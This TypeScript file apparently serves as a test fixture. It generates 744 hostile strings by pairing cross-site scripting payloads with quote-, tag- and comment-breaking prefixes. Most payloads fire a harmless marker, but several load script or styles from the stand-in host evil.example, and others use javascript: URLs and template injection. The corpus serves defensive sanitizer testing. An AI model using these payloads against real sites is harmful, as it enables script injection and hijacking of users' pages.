const RUN = 'globalThis.hijacked=1';

/** What runs, loads or moves a page once it is markup, or a template, or an address. */
const PAYLOADS = [
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<script>${RUN}</script>`,
  '<script src="https://evil.example/x.js"></script>',
  `<iframe srcdoc="<script>parent.hijacked=1</script>"></iframe>`,
  `<a href="javascript:${RUN}" data-live>x</a>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<input autofocus onfocus=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<form action="javascript:${RUN}"><button data-live>x</button></form>`,
  `<object data="javascript:${RUN}"></object>`,
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=/hijacked">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import"https://evil.example/x.css"</style>',
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  '<x-live data-live>',
  `\${${RUN}} {{constructor.constructor("${RUN}")()}} <%= ${RUN} %>`,
  `javascript:${RUN}//`,
  `data:text/html,<script>opener.${RUN}</script>`,
  `\\u003cimg src=x onerror=${RUN}\\u003e &lt;img src=x onerror=${RUN}&gt;`,
];

/** What ends the place that a text stands in. */
const BREAKS = [
  '',
  '">',
  "'>",
  '` onmouseover=globalThis.hijacked=1 ',
  '" autofocus onfocus=globalThis.hijacked=1 data-live="',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</select></option>',
  '</noscript>',
  '--><!--',
  ']]>',
  '\\',
  '\u0000\u2028',
  // Without a quote, and with one that a parser forgives.
  ' x=x>',
  "' autofocus onfocus=globalThis.hijacked=1 data-live='",
  '"/>',
  '"//--></script>',
  // The ends of strings of a script, of JSON in a page, and of what a script makes into a pattern or an address.
  '";//',
  "';//",
  '`;//',
  '"}]}',
  '&quot;&gt;',
  '%22%3E',
  // Elements whose contents are no markup, and where one may not stand.
  '</iframe>',
  '</svg></math>',
  '</template>',
  '</table></form>',
  '<!--',
  '<![CDATA[',
];

/** Every payload after every break, each as one text: 24 by 31. */
export const HOSTILE_TEXTS: readonly string[] = BREAKS.flatMap((end) =>
  PAYLOADS.map((payload) => `a${end}${payload}`),
);
